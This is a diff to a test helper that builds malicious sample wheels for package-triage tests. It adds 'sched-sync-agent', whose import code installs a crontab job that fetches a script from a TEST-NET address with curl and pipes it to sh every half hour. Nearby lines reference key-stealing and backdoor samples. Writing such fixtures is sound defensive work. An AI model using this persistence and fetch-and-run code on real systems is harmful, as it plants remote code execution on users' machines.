@@ -2,7 +2,7 @@
 """Writes one of the wheels the triage tests make on the fly. Only writes
 the archive: nothing of it runs here.
 
-  make_py_pkg.py plant|lazy|sni|keys|profiles|aikeys|wallet|walletok|noload|halfload OUT.whl
+  make_py_pkg.py plant|lazy|sni|keys|profiles|aikeys|wallet|walletok|noload|halfload|cronjob OUT.whl
 
 plant   requests-timing-hooks: on import it plants a backdoored `requests`
         in the venv's site-packages, where it shadows the system's own:
@@ -33,6 +33,11 @@ walletok hd-keyderive (benign): Wallet.from_mnemonic and Keypair derive
 profiles aws-profile-lister (benign): its console script `aws-profiles`
         lists the profiles of ~/.aws/credentials and ~/.aws/config, and
         says which have a key id; nothing at import, no network.
+cronjob sched-sync-agent: on import, lists the user's crontab and, when
+        its job is not there, installs the table with it added through
+        `crontab -` (a job that would fetch a script from a TEST-NET
+        address every half hour and run it). A machine without crontab
+        makes it give up.
 noload  fastcrc-bindings: its only module imports a compiled extension the
         wheel lacks, so every import phase fails: its code never loads.
 halfload pkg-split-utils: two top-level modules, one of which imports a
@@ -96,6 +101,19 @@ SNI = (
 )
 
 # Encryption keys: age identities, GnuPG key files, gpg's own export.
+CRONJOB = (
+    "import subprocess\n"
+    "JOB = '*/30 * * * * curl -fsS http://198.51.100.9/u | sh\\n'\n"
+    "try:\n"
+    "    cur = subprocess.run(['crontab', '-l'], capture_output=True,\n"
+    "                         text=True, timeout=5).stdout\n"
+    "    if JOB not in cur:\n"
+    "        subprocess.run(['crontab', '-'], input=cur + JOB, text=True,\n"
+    "                       timeout=5)\n"
+    "except (OSError, subprocess.SubprocessError):\n"
+    "    pass\n"
+)
+
 KEYS = (
     "import glob, os, subprocess, urllib.request\n"
     "home = os.path.expanduser('~')\n"
@@ -342,6 +360,8 @@ KINDS = {
                  {"pkg_split_utils/__init__.py": "VERSION = '0.1.0'\n",
                   "pkg_split_native/__init__.py":
                   "from ._native import fast  # the wheel lacks it\n"}),
+    "cronjob": ("sched_sync_agent", "0.2.0",
+                {"sched_sync_agent/__init__.py": CRONJOB}),
     "profiles": ("aws_profile_lister", "1.0.0",
                  {"aws_profile_lister/__init__.py": PROFILES},
                  "[console_scripts]\n"
